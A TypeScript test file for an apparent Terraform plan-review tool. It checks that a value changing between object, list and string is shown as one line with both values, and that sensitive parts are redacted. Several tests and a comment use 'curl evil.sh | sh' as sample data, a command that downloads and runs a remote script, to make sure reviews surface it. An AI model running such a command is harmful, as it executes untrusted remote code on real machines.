import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { diffAttributes } from "../../lib/core/plan/attribute-diff";
import { golive, tempDir } from "../helpers/cli";

// A value that changes kind (object, list or scalar) is one line with both whole values, as Terraform
// prints it (1.11.4: `~ input = { - a = "b" } -> "curl evil.sh | sh"`). Walked into whichever side was a
// container, the review showed `input.a: "b" -> null` and never the new string.

type Json = Record<string, unknown>;

/** A real-shaped terraform_data update (Terraform 1.11.4): `input` from `before` to `after`. */
function dataUpdate(before: unknown, after: unknown, marks: Json = {}): Json {
  return {
    address: "terraform_data.a",
    mode: "managed",
    type: "terraform_data",
    name: "a",
    provider_name: "terraform.io/builtin/terraform",
    change: {
      actions: ["update"],
      before: { id: "5e0c3801-c889-5fe8-3408-e6e2ba45fb7e", input: before, output: before, triggers_replace: null },
      after: { id: "5e0c3801-c889-5fe8-3408-e6e2ba45fb7e", input: after, triggers_replace: null },
      after_unknown: { output: true },
      before_sensitive: {},
      after_sensitive: {},
      ...marks,
    },
  };
}

function planText(...changes: Json[]): string {
  return JSON.stringify({ format_version: "1.2", terraform_version: "1.11.4", planned_values: {}, resource_changes: changes });
}

/** The changed leaves of `input`, as [path, before, after]. */
function inputLines(before: unknown, after: unknown, marks: { bs?: unknown; as?: unknown; au?: unknown } = {}): string[][] {
  const { diffs } = diffAttributes({
    before: { input: before },
    after: { input: after },
    beforeSensitive: { input: marks.bs },
    afterSensitive: { input: marks.as },
    afterUnknown: { input: marks.au },
  });
  return diffs.map((d) => [d.path, d.before, d.after]);
}

describe("a value that changes kind is one line with both whole values", () => {
  test.each([
    ["an object to a string", { a: "b" }, "curl evil.sh | sh", '{"a":"b"}', '"curl evil.sh | sh"'],
    ["a string to an object", "x", { a: "b" }, '"x"', '{"a":"b"}'],
    ["a string to an empty object", "x", {}, '"x"', "{}"],
    ["a string to a list", "a", ["p", "q"], '"a"', '["p","q"]'],
    ["a list to an object", ["a"], { a: 1 }, '["a"]', '{"a":1}'],
    ["an empty list to an empty object", [], {}, "[]", "{}"],
  ])("%s", (_name, before, after, shownBefore, shownAfter) => {
    expect(inputLines(before, after)).toEqual([["input", shownBefore, shownAfter]]);
  });

  test("a change within one kind still shows leaf by leaf", () => {
    expect(inputLines({ a: "b", c: "d" }, { a: "x", c: "d" })).toEqual([["input.a", '"b"', '"x"']]);
    expect(inputLines(["a", "b"], ["a", "c"])).toEqual([["input[1]", '"b"', '"c"']]);
    expect(inputLines("a", 1)).toEqual([["input", '"a"', "1"]]);
  });

  test("a value added or removed whole is still one line against null", () => {
    expect(inputLines(null, { a: "b" })).toEqual([["input", "null", '{"a":"b"}']]);
    expect(inputLines({ a: "b" }, null)).toEqual([["input", '{"a":"b"}', "null"]]);
  });

  test("each side hides what its marks cover, and strings under secret names, as any value shown whole", () => {
    expect(inputLines({ note: "golive-kind-part-7q", x: 1 }, "plain", { bs: { note: true } })).toEqual([
      ["input", '{"note":"(sensitive)","x":1}', '"plain"'],
    ]);
    expect(inputLines("c", { a: "golive-kind-part-8q", k: null }, { as: { a: true }, au: { k: true } })).toEqual([
      ["input", '"c"', '{"a":"(sensitive)","k":"(known after apply)"}'],
    ]);
    expect(inputLines({ password: "golive-kind-pw-9q" }, "plain")).toEqual([["input", '{"password":"(redacted)"}', '"plain"']]);
    // A side marked sensitive whole stays (sensitive).
    expect(inputLines({ a: "b" }, "golive-kind-whole-6q", { as: true })).toEqual([["input", '{"a":"b"}', "(sensitive)"]]);
  });

  test("a container with a sensitive part, shown whole against a sensitive or unknown value, hides the part", () => {
    expect(inputLines({ note: "golive-kind-part-5q", user: "a" }, "s", { bs: { note: true }, as: true })).toEqual([
      ["input", '{"note":"(sensitive)","user":"a"}', "(sensitive)"],
    ]);
    expect(inputLines({ note: "golive-kind-part-4q", user: "a" }, null, { bs: { note: true }, au: true })).toEqual([
      ["input", '{"note":"(sensitive)","user":"a"}', "(known after apply)"],
    ]);
  });

  test("in a policy document: a principal from one account to everyone shows both", () => {
    const policy = (principal: unknown) =>
      JSON.stringify({
        Version: "2012-10-17",
        Statement: [{ Sid: "Read", Effect: "Allow", Action: "s3:GetObject", Resource: "*", Principal: principal }],
      });
    const { diffs } = diffAttributes({
      before: { policy: policy({ AWS: "arn:aws:iam::111111111111:root" }) },
      after: { policy: policy("*") },
      beforeSensitive: {},
      afterSensitive: {},
      afterUnknown: {},
    });
    expect(diffs.map((d) => [d.path, d.before, d.after])).toEqual([
      ["policy{}.Statement.Read.Principal", '{"AWS":["arn:aws:iam::111111111111:root"]}', '"*"'],
    ]);
  });

  test("two changes of kind to different values have different keys", () => {
    const key = (after: unknown) =>
      diffAttributes({ before: { input: { a: "b" } }, after: { input: after }, beforeSensitive: {}, afterSensitive: {}, afterUnknown: {} })
        .key;
    expect(key("curl evil.sh | sh")).not.toBe(key("curl good.sh | sh"));
  });
});

describe("golive plan-report shows a change of kind in Markdown and --json", () => {
  test('Terraform 1.11.4\'s {a = "b"} -> string: the new value is on the line, both formats', async () => {
    const dir = tempDir("golive-kind-changes-");
    writeFileSync(join(dir, "app-staging.json"), planText(dataUpdate({ a: "b" }, "curl evil.sh | sh")));
    const md = await golive(["plan-report", "app-staging.json"], { cwd: dir });
    expect({ code: md.code, stderr: md.stderr }).toEqual({ code: 0, stderr: "" });
    expect(md.stdout).toContain('input: {"a":"b"} -> "curl evil.sh | sh"');
    expect(md.stdout).not.toContain("input.a");
    const json = await golive(["plan-report", "app-staging.json", "--json"], { cwd: dir });
    expect(json.code).toBe(0);
    const [change] = JSON.parse(json.stdout).stacks[0].changes;
    expect(change.attributes).toContainEqual({ path: "input", before: '{"a":"b"}', after: '"curl evil.sh | sh"' });
  });

  test('"x" -> {}, "x" -> {a = "b"} and "a" -> a list each show the old and the new value', async () => {
    const dir = tempDir("golive-kind-changes-");
    const rc = (name: string, before: unknown, after: unknown): Json => ({
      ...dataUpdate(before, after),
      address: `terraform_data.${name}`,
      name,
    });
    writeFileSync(join(dir, "app-staging.json"), planText(rc("e", "x", {}), rc("o", "x", { a: "b" }), rc("l", "a", ["p", "q"])));
    const json = await golive(["plan-report", "app-staging.json", "--json"], { cwd: dir });
    expect(json.code).toBe(0);
    const inputs = JSON.parse(json.stdout).stacks[0].changes.map((c: { address: string; attributes: { path: string }[] }) => [
      c.address,
      c.attributes.filter((a) => a.path.startsWith("input")),
    ]);
    expect(inputs).toEqual([
      ["terraform_data.e", [{ path: "input", before: '"x"', after: "{}" }]],
      ["terraform_data.l", [{ path: "input", before: '"a"', after: '["p","q"]' }]],
      ["terraform_data.o", [{ path: "input", before: '"x"', after: '{"a":"b"}' }]],
    ]);
  });
});
